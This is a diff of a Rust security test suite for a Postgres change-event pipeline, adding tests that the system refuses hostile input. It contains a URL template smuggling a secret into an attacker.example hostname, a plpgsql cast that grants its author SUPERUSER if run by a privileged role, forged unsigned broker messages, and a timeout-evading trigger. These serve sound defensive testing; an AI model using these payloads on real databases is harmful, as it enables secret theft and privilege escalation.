@@ -18,8 +18,8 @@ use common::gateway::{hs256, now, Gateway};
 use common::{stop, World, WAIT};
 use futures_util::FutureExt as _;
 use pgevents_testkit::{
-    delete_exchange, delete_queue, free_local_addr, metric_value, server_tls_acceptor, unique_name, wait_for,
-    EventQueue, HttpRecorder, ImpostorPg, ImpostorPlay, PgCluster, PgEventsProcess, Reply, SseClient, TestCa,
+    delete_exchange, delete_queue, free_local_addr, metric_value, publish_raw, server_tls_acceptor, unique_name,
+    wait_for, EventQueue, HttpRecorder, ImpostorPg, ImpostorPlay, PgCluster, PgEventsProcess, Reply, SseClient, TestCa,
 };
 use serde_json::{json, Value};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -32,9 +32,10 @@ const SESSION_CELLS: &[&str] =
     &["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10", "S12", "S13", "S14", "S15", "S16", "S11"];
 const RULE_CELLS: &[&str] = &[
     "R1", "R2", "R3", "R4", "R5", "R6", "R7", "R8", "R9", "R10", "R11", "R12", "R13", "R14", "R15", "R16", "R17",
-    "R18", "R19", "R20", "L1", "M1", "C1",
+    "R18", "R19", "R20", "R21", "R22", "B1", "B2", "L1", "M1", "C1",
 ];
 const NETWORK_CELLS: &[&str] = &["N1", "N2"];
+const PRODUCER_CELLS: &[&str] = &["P1", "P2", "P3", "P4"];
 
 type Verdict = Result<(), String>;
 
@@ -82,8 +83,11 @@ fn documented_ids() -> BTreeSet<String> {
 
 #[test]
 fn every_refusal_on_the_security_page_is_tried() {
-    let tried: BTreeSet<String> =
-        [GATEWAY_CELLS, SESSION_CELLS, RULE_CELLS, NETWORK_CELLS].concat().iter().map(|s| s.to_string()).collect();
+    let tried: BTreeSet<String> = [GATEWAY_CELLS, SESSION_CELLS, RULE_CELLS, NETWORK_CELLS, PRODUCER_CELLS]
+        .concat()
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
     let documented = documented_ids();
     assert!(!documented.is_empty());
     let untried: Vec<&String> = documented.difference(&tried).collect();
@@ -825,6 +829,11 @@ struct RulesWorld {
     world: World,
     producer: PgEventsProcess,
     worker: PgEventsProcess,
+    runner: PgEventsProcess,
+    /// The environment of the worker, the action runner and requeue-dead.
+    env: Vec<(String, String)>,
+    work_exchange: String,
+    dead_exchange: String,
     /// The API the actions call; `/jump` redirects to `other`; it echoes what it got.
     api: HttpRecorder,
     /// Another port of the same host.
@@ -893,6 +902,8 @@ impl RulesWorld {
             use std::os::unix::fs::PermissionsExt;
             std::fs::set_permissions(&passfile_path, std::fs::Permissions::from_mode(0o600)).unwrap();
         }
+        let key_path = passfile.path().join("work.key");
+        std::fs::write(&key_path, [42u8; 32]).unwrap();
         let names: Vec<String> =
             ["work", "actions", "dead", "deadq", "worker"].iter().map(|n| unique_name(n)).collect();
         let events = world.queue(&["public.orders"]).await;
@@ -917,11 +928,20 @@ impl RulesWorld {
             ("PGEVENTS_MAX_PARAMETER_ROWS", "100"),
             ("PGEVENTS_RULES_REFRESH", "1"),
             ("PGEVENTS_METRICS_ADDR", &metrics.to_string()),
+            ("PGEVENTS_WORK_KEY_FILE", key_path.to_str().unwrap()),
         ]);
         env.retain(|(k, _)| k != "PGEVENTS_STATUS_INTERVAL");
         let mut worker = PgEventsProcess::spawn(&["worker"], &env);
         worker.wait_for_log("consuming", WAIT).await;
+        let mut runner_env = env.clone();
+        runner_env.retain(|(k, _)| k != "PGEVENTS_METRICS_ADDR");
+        let mut runner = PgEventsProcess::spawn(&["action-runner"], &runner_env);
+        runner.wait_for_log("consuming", WAIT).await;
         RulesWorld {
+            env: runner_env,
+            work_exchange: names[0].clone(),
+            dead_exchange: names[2].clone(),
+            runner,
             world,
             producer,
             worker,
@@ -948,12 +968,17 @@ impl RulesWorld {
     async fn write_rules(&self, client: &tokio_postgres::Client, sql: &str) -> Result<(), String> {
         let before = self.worker.log_count("rules reloaded");
         client.batch_execute(sql).await.map_err(|e| db_message::<()>(&Err(e)))?;
+        self.reloaded_since(before).await;
+        Ok(())
+    }
+
+    /// Waits for two reloads after the log said `before` (one may have read the tables before
+    /// the change committed).
+    async fn reloaded_since(&self, before: usize) {
         wait_for("the rules reloaded", WAIT, || async {
-            (self.worker.log_count("rules reloaded") > before).then_some(())
+            (self.worker.log_count("rules reloaded") > before + 1).then_some(())
         })
         .await;
-        tokio::time::sleep(Duration::from_millis(300)).await;
-        Ok(())
     }
 
     /// As alice: an HTTP action `{cell}_action` (one attempt) to `url` with `headers`, and a work
@@ -1015,6 +1040,7 @@ impl RulesWorld {
 
     async fn stop(self) {
         stop(self.worker).await;
+        stop(self.runner).await;
         stop(self.producer).await;
         self.events.into_inner().close().await;
         for queue in &self.queues {
@@ -1037,6 +1063,17 @@ async fn rules_and_workers() {
     run_cells(RULE_CELLS, |id| rule_cell(id, &w, &alice)).await;
     drop(alice);
     w.stop().await;
+}
+
+/// A work message as someone who may publish to the broker would make it: alice's SQL action
+/// with parameters of their choosing.
+fn forged_job(key: &str, note: &str) -> Value {
+    json!({
+        "idempotency_key": key, "work_item": "r2", "action": "a_note", "row": 0,
+        "parameters": {}, "revive": true,
+        "event": {"table_name": "public.orders", "action": "I", "lsn": "0/1", "commit_time": "2026-12-02T00:00:00Z", "message_id": key},
+        "event_json": {"table_name": "public.orders", "action": "I", "new": {"note": note}, "old": {}}
+    })
 }
 
 fn filter_on(cell: &str) -> String {
@@ -1129,10 +1166,7 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
             .await?;
             let before = w.worker.log_count("rules reloaded");
             pg.execute("DELETE FROM pgevents.secret_grant WHERE secret = 'PAY'").await;
-            wait_for("the grant revoked", WAIT, || async {
-                (w.worker.log_count("rules reloaded") > before).then_some(())
-            })
-            .await;
+            w.reloaded_since(before).await;
             w.order("R5").await;
             w.dead_with("r5", "not granted").await?;
             ensure!(!w.api.requests().iter().any(|r| r.path.contains(PAY)), "the secret was sent");
@@ -1320,11 +1354,7 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
                 )
                 .await
                 .map_err(|e| e.to_string())?;
-            wait_for("the rules reloaded", WAIT, || async {
-                (w.worker.log_count("rules reloaded") > before).then_some(())
-            })
-            .await;
-            tokio::time::sleep(Duration::from_millis(300)).await;
+            w.reloaded_since(before).await;
             w.order("R20").await;
             w.runs(name, 1).await;
             let log = w.worker.stderr();
@@ -1333,6 +1363,65 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
                 !log.lines().any(|line| line.starts_with("2026-12-02T00:00:00Z  INFO forged")),
                 "a forged log line"
             );
+            Ok(())
+        }
+        "R21" => {
+            for url in ["{base_url}.{{secret.BOT}}.x.attacker.example/x", "{base_url}:{{port}}/x"] {
+                let refused = alice
+                    .execute("INSERT INTO pgevents.action (name, kind, url) VALUES ('r21', 'http', $1)", &[&url])
+                    .await;
+                ensure!(db_message(&refused).contains("action_url_host_fixed"), "{url}: {}", db_message(&refused));
+            }
+            Ok(())
+        }
+        "R22" => {
+            w.write_rules(
+                alice,
+                "CREATE TABLE alice.slow (id int);
+                 CREATE FUNCTION alice.linger() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM pg_sleep(30); RETURN NULL; END $f$;
+                 CREATE CONSTRAINT TRIGGER linger AFTER INSERT ON alice.slow DEFERRABLE INITIALLY DEFERRED
+                     FOR EACH ROW EXECUTE FUNCTION alice.linger();
+                 INSERT INTO pgevents.action (name, kind, sql, timeout_ms, max_attempts) VALUES ('r22_linger', 'sql',
+                     'INSERT INTO alice.slow SELECT 1 FROM (SELECT set_config(''statement_timeout'', ''0'', true)) s', 500, 1);
+                 INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES
+                     ('r22', 'orders', 'r22_linger', '$1->''new''->>''note'' = ''R22''')",
+            )
+            .await?;
+            let started = std::time::Instant::now();
+            w.order("R22").await;
+            let runs = w.runs("r22", 1).await;
+            ensure!(runs[0]["status"] == "dead", "{runs:?}");
+            ensure!(
+                started.elapsed() < Duration::from_secs(10),
+                "the worker waited {:?} for rule text",
+                started.elapsed()
+            );
+            Ok(())
+        }
+        "B1" => {
+            let forged = forged_job("b1-forged", "forged by a broker user");
+            publish_raw(&w.work_exchange, "a_note", "b1", forged.to_string().as_bytes()).await;
+            wait_for("the runner's refusal", WAIT, || async {
+                w.runner.stderr().contains("refused a work message without a valid signature").then_some(())
+            })
+            .await;
+            let ran = pg
+                .query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE '%forged by a broker user%'")
+                .await;
+            ensure!(ran.as_deref() == Some("0"), "the forged job ran");
+            Ok(())
+        }
+        "B2" => {
+            let forged = forged_job("b2-forged", "forged into the dead letters");
+            publish_raw(&w.dead_exchange, "a_note", "b2", forged.to_string().as_bytes()).await;
+            tokio::time::sleep(Duration::from_millis(300)).await;
+            let mut requeue = PgEventsProcess::spawn(&["requeue-dead"], &w.env);
+            ensure!(requeue.wait(WAIT).await == Some(0), "requeue-dead failed: {}", requeue.stderr());
+            let said = requeue.stdout();
+            ensure!(said.contains("jobs whose signature does not hold"), "{said}");
+            tokio::time::sleep(Duration::from_secs(1)).await;
+            let ran = pg.query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE '%forged into%'").await;
+            ensure!(ran.as_deref() == Some("0"), "the forged job ran");
             Ok(())
         }
         "L1" => {
@@ -1435,6 +1524,172 @@ async fn network_cell(id: &str, world: &World, certificate: &pgevents_testkit::C
             let out = check.stdout();
             ensure!(code == Some(1), "the check passed against an impostor broker: {out}");
             ensure!(out.to_lowercase().contains("certificate"), "{out}");
+            Ok(())
+        }
+        other => Err(format!("no such cell {other}")),
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// The producer
+
+/// A producer with an initial snapshot of a publication that lists some tables, one of them
+/// bob's, whose type carries casts that would make bob superuser if the producer ran them.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn producer_surfaces() {
+    let world = World::new().await;
+    world
+        .pg
+        .execute(
+            "CREATE ROLE bob LOGIN PASSWORD 'bob'; GRANT CREATE ON DATABASE postgres TO bob;
+             CREATE TABLE public.listed (id int PRIMARY KEY, n numeric, j json);
+             CREATE TABLE public.unlisted (id int PRIMARY KEY, ssn text);
+             INSERT INTO public.listed VALUES (1, 1, '{}'); INSERT INTO public.unlisted VALUES (1, '078-05-1120');
+             GRANT INSERT, SELECT ON public.listed TO bob;",
+        )
+        .await;
+    let bob = connect_as(&world.pg, "bob", "bob").await;
+    bob.batch_execute(
+        "CREATE SCHEMA bobs;
+         CREATE TYPE bobs.boom AS (x int);
+         CREATE FUNCTION bobs.escalate() RETURNS void LANGUAGE plpgsql AS $f$
+         BEGIN
+             IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+                 -- (The snapshot's read-only transaction stops ALTER ROLE, not COPY ... TO PROGRAM.)
+                 RAISE WARNING 'BOB-RAN-AS-A-SUPERUSER';
+                 EXECUTE 'ALTER ROLE bob SUPERUSER';
+             END IF;
+         END $f$;
+         CREATE FUNCTION bobs.boom_text(bobs.boom) RETURNS text LANGUAGE plpgsql AS $f$
+         BEGIN PERFORM bobs.escalate(); RETURN ($1).x::text; END $f$;
+         CREATE FUNCTION bobs.boom_from(text) RETURNS bobs.boom LANGUAGE plpgsql AS $f$
+         BEGIN PERFORM bobs.escalate(); RETURN row($1::int)::bobs.boom; END $f$;
+         CREATE CAST (bobs.boom AS text) WITH FUNCTION bobs.boom_text(bobs.boom);
+         CREATE CAST (text AS bobs.boom) WITH FUNCTION bobs.boom_from(text);
+         CREATE TABLE bobs.t (id int PRIMARY KEY, b bobs.boom);
+         CREATE TABLE bobs.k (b bobs.boom PRIMARY KEY);
+         INSERT INTO bobs.t VALUES (1, row(1)), (2, row(2));
+         INSERT INTO bobs.k VALUES (row(1)), (row(2)), (row(3));",
+    )
+    .await
+    .expect("bob's tables");
+    world.pg.execute("CREATE PUBLICATION limited FOR TABLE public.listed, bobs.t, bobs.k").await;
+    let queue = tokio::sync::Mutex::new(world.queue(&["#"]).await);
+    let producer = world
+        .producer(&[
+            ("PGPUBLICATION", "limited"),
+            ("PGEVENTS_SNAPSHOT", "initial"),
+            ("PGEVENTS_SNAPSHOT_BATCH_ROWS", "1"),
+            ("PGEVENTS_MAX_CONTEXT_BYTES", "8192"),
+        ])
+        .await;
+    let state = ProducerWorld { world: &world, bob, queue };
+    run_cells(PRODUCER_CELLS, |id| producer_cell(id, &state)).await;
+    stop(producer).await;
+    state.queue.into_inner().close().await;
+    delete_exchange(&world.exchange).await;
+}
+
+struct ProducerWorld<'a> {
+    world: &'a World,
+    bob: tokio_postgres::Client,
+    queue: tokio::sync::Mutex<EventQueue>,
+}
+
+impl ProducerWorld<'_> {
+    /// Bodies of the events that arrive until `done` says so, or none comes for 5 s.
+    async fn bodies_until(&self, done: impl Fn(&Value) -> bool) -> Vec<Value> {
+        let mut queue = self.queue.lock().await;
+        let mut out = Vec::new();
+        while let Some(delivery) = queue.next_raw(Duration::from_secs(5)).await {
+            let body: Value = serde_json::from_slice(&delivery.body).unwrap_or(Value::Null);
+            let last = done(&body);
+            out.push(body);
+            if last {
+                break;
+            }
+        }
+        out
+    }
+}
+
+async fn producer_cell(id: &str, p: &ProducerWorld<'_>) -> Verdict {
+    let pg = &p.world.pg;
+    match id {
+        "P1" => {
+            // The snapshot read bob's tables (a composite column; a composite key, paged).
+            let seen = std::cell::Cell::new((false, false));
+            let snapshot = p
+                .bodies_until(|e| {
+                    let (mut t, mut k) = seen.get();
+                    t |= e["table_name"] == "bobs.t" && e["new"]["id"] == 2;
+                    k |= e["table_name"] == "bobs.k" && e["new"]["b"] == "(3)";
+                    seen.set((t, k));
+                    t && k
+                })
+                .await;
+            let read: Vec<String> =
+                snapshot.iter().map(|e| format!("{} {}", e["table_name"].as_str().unwrap_or("?"), e["new"])).collect();
+            ensure!(
+                read.iter().any(|r| r.starts_with("bobs.t") && r.contains("(2)")),
+                "bob's rows were not read: {read:?}"
+            );
+            let superuser = pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
+            ensure!(superuser.as_deref() == Some("false"), "the snapshot ran bob's casts as the producer");
+            ensure!(!pg.log().contains("BOB-RAN-AS-A-SUPERUSER"), "bob's function ran as a superuser");
+            ensure!(!read.iter().any(|r| r.starts_with("public.unlisted")), "P2 as well: {read:?}");
+            Ok(())
+        }
+        "P2" => {
+            pg.execute(
+                "INSERT INTO public.unlisted VALUES (2, '219-09-9999'); INSERT INTO public.listed VALUES (2, 2, '{}')",
+            )
+            .await;
+            let bodies = p.bodies_until(|e| e["table_name"] == "public.listed" && e["new"]["id"] == 2).await;
+            ensure!(
+                !bodies.iter().any(|e| e["table_name"] == "public.unlisted"),
+                "a table out of the publication: {bodies:?}"
+            );
+            Ok(())
+        }
+        "P3" => {
+            let huge = json!({"x": "A".repeat(20_000)}).to_string();
+            p.bob
+                .batch_execute(&format!(
+                    "BEGIN; SELECT pg_logical_emit_message(true, 'pgevents', '{huge}'); INSERT INTO public.listed VALUES (3, 3, '{{}}'); COMMIT;"
+                ))
+                .await
+                .map_err(|e| e.to_string())?;
+            pg.execute("INSERT INTO public.listed VALUES (4, 4, '{}')").await;
+            let bodies = p.bodies_until(|e| e["new"]["id"] == 4).await;
+            let three = bodies.iter().find(|e| e["new"]["id"] == 3);
+            ensure!(
+                three.is_some_and(|e| e.get("context").is_none_or(Value::is_null)),
+                "the oversized context: {:?}",
+                three.map(|e| e.to_string().len())
+            );
+            ensure!(bodies.iter().any(|e| e["new"]["id"] == 4), "the producer stopped after it");
+            Ok(())
+        }
+        "P4" => {
+            let nested = format!("{}1{}", "[".repeat(200), "]".repeat(200));
+            p.bob
+                .batch_execute(&format!(
+                    "INSERT INTO public.listed VALUES (5, 1{zeros}, '{nested}'); INSERT INTO public.listed VALUES (6, 6, '1e400');",
+                    zeros = "0".repeat(400)
+                ))
+                .await
+                .map_err(|e| e.to_string())?;
+            let bodies = p.bodies_until(|e| e["new"]["id"] == 6).await;
+            let five = bodies.iter().find(|e| e["new"]["id"] == 5);
+            let six = bodies.iter().find(|e| e["new"]["id"] == 6);
+            ensure!(
+                five.is_some() && six.is_some(),
+                "a change a JSON parser cannot read was hidden: {} events",
+                bodies.len()
+            );
+            ensure!(five.is_some_and(|e| e["new"]["n"].is_string() && e["new"]["j"].is_string()), "{five:?}");
+            ensure!(six.is_some_and(|e| e["new"]["j"] == "1e400"), "{six:?}");
             Ok(())
         }
         other => Err(format!("no such cell {other}")),
